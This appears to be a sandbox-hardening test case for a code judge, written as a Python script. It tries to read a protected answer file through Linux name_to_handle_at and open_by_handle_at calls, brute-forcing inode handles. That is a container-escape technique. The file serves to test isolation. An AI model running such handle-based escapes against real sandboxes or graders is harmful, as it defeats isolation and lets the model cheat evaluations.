# Tries: to open the golden file by a file handle instead of a name, its own and a guessed one.
# Must get: AC, for it answers honestly afterwards.
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
mount = ctypes.c_int()
for path in ("@GOLDEN@", "@ROOT@", "/"):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    if libc.name_to_handle_at(AT_FDCWD, path.encode(), handle, ctypes.byref(mount), 0) == 0 and path != "/":
        print("PWNED a handle of", path)
    for place in ("/", "/usr", "."):
        found = libc.open_by_handle_at(os.open(place, os.O_RDONLY), handle, os.O_RDONLY)
        if found >= 0:
            print("PWNED opened", path, "by its handle")
for inode in range(2, 60):
    handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0))
    if libc.open_by_handle_at(os.open("/usr", os.O_RDONLY), handle, os.O_RDONLY) >= 0:
        print("PWNED opened inode", inode)
# @ANSWER@
